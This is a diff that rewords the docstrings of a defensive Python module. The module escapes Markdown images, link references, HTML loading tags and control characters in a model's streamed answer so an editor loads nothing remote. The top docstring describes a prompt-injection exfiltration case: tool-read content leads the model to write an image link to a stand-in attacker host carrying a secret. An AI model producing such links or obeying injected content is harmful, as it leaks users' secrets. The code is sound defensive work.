@@ -1,10 +1,10 @@
-r"""Keeps an editor from loading what the text of an answer names: pictures, frames, scripts, styles.
+r"""Keep an editor from loading the pictures, frames, scripts and styles that the text of an answer refers to.
 
-A page or a file that a tool has read can talk the model into writing `![](https://evil.example/?q=<secret>)`. An editor
-that renders this sends the secret (CVE-2025-54132). Therefore a backslash is inserted into everything that a Markdown
-renderer would load from elsewhere. It then reads as the text it is:
+A page or a file that a tool has read can make the model write `![](https://evil.example/?q=<secret>)`. An editor that
+renders this sends the secret (CVE-2025-54132). Therefore a backslash is inserted into everything that a Markdown
+renderer would load from elsewhere. The renderer then shows it as text:
 
-    ![alt](https://…)    ![alt]\(https://…)     a `![` may stand far before, but in the same paragraph
+    ![alt](https://…)    ![alt]\(https://…)     the `![` may be far before, but in the same paragraph
     [label]: https://…   [label]\: https://…    a picture may name the label
     <img src="https://…">    <\img src="https://…">     many renderers pass HTML through
 
@@ -55,9 +55,9 @@ class _Tag(Enum):
 
 
 class HtmlGuard:
-    """A filter that disarms the loading tags of a stream. However the stream is cut, the results join to the same text.
+    """A filter of a stream that escapes tags that load something. The joined results do not depend on the chunks.
 
-    The beginning of a tag is held back, a few hundred characters at most.
+    An incomplete tag is held back, a few hundred characters at most.
     """
 
     def __init__(self) -> None:
@@ -151,13 +151,13 @@ def _by_attributes(text: str, at: int, without: _Tag, *, is_all: bool) -> _Tag |
 
 
 _LONGEST_TARGET = 256
-"""How many characters of a target are looked at. A target that is not known to be local by then counts as remote."""
+"""How many characters of a target are read. A target that is not known to be local by then counts as remote."""
 
 _LONGEST_GAP = 16
 """How much white space before a target is accepted."""
 
 _SLICE = 64 * 1024
-"""How many characters are searched at once. Other threads wait for these milliseconds."""
+"""How many characters are searched at once. Other threads wait meanwhile, some milliseconds."""
 
 _PLAIN = rf"[\w./#?=@+,%~-]{{1,{_LONGEST_TARGET}}}+"
 _GAP = rf"[ \t\n]{{0,{_LONGEST_GAP}}}"
@@ -173,7 +173,7 @@ _SUSPECT = lazy_regex(rf"[<\r{_ACTS}]|\]\(|\]:")
 
 
 def defused(text: str) -> str:
-    """Return the text without characters that act and without anything that a renderer would load from elsewhere."""
+    """Return the text with control characters escaped and with everything escaped that a renderer would load."""
     if len(text) <= _SLICE and _SUSPECT.search(text) is None:
         return text
     guard = AnswerGuard()
@@ -185,10 +185,10 @@ _RETURNS = lazy_regex(r"\r(?!\n)")
 
 
 class ControlGuard:
-    r"""A filter that shows acting characters as escapes. However a stream is cut, the results join to one text.
+    r"""A filter of a stream that shows control characters as escapes. The joined results do not depend on the chunks.
 
-    An escape sequence would steer the terminal of a text client, and a bidirectional override makes code read as
-    something else (CVE-2021-42574). As JSON escapes (`\u001b`) the characters stay readable.
+    An escape sequence would control the terminal of a text client, and a bidirectional override makes code look like
+    other code (CVE-2021-42574). As JSON escapes (`\u001b`) the characters stay readable.
 
     Tabs and line ends stay. A lone carriage return becomes a line end, so one at the end of a chunk is held back.
     """
@@ -205,30 +205,30 @@ class ControlGuard:
 
 
 class AnswerGuard:
-    """A filter that makes the model's text safe for an editor: control characters, HTML and pictures.
+    """A filter of a stream that makes the model's text safe for an editor: control characters, HTML and pictures.
 
-    However the stream is cut, the results join to the same text.
+    The joined results do not depend on the chunks.
     """
 
     def __init__(self) -> None:
         self._guards = (ControlGuard(), HtmlGuard(), ImageGuard())
 
     def feed(self, chunk: str, *, last: bool = False) -> str:
-        """Return what is certain after this chunk, which may be nothing; after the last one all of it."""
+        """Return the text that later chunks cannot change, maybe none. With `last`, return all that is left."""
         for guard in self._guards:
             chunk = guard.feed(chunk, last=last)
         return chunk
 
 
 class ImageGuard:
-    """A filter that disarms the pictures of a stream. However the stream is cut, the results join to the same text.
+    """A filter of a stream that escapes pictures. The joined results do not depend on the chunks.
 
-    The beginning of a construct is held back, a few hundred characters at most.
+    An incomplete picture is held back, a few hundred characters at most.
     """
 
     def __init__(self) -> None:
         self._held = ""
-        self._pictured = False  # whether a `![` stands in the paragraph
+        self._pictured = False  # whether the paragraph has a `![`
 
     def feed(self, chunk: str, *, last: bool = False) -> str:
         """See `AnswerGuard.feed`."""
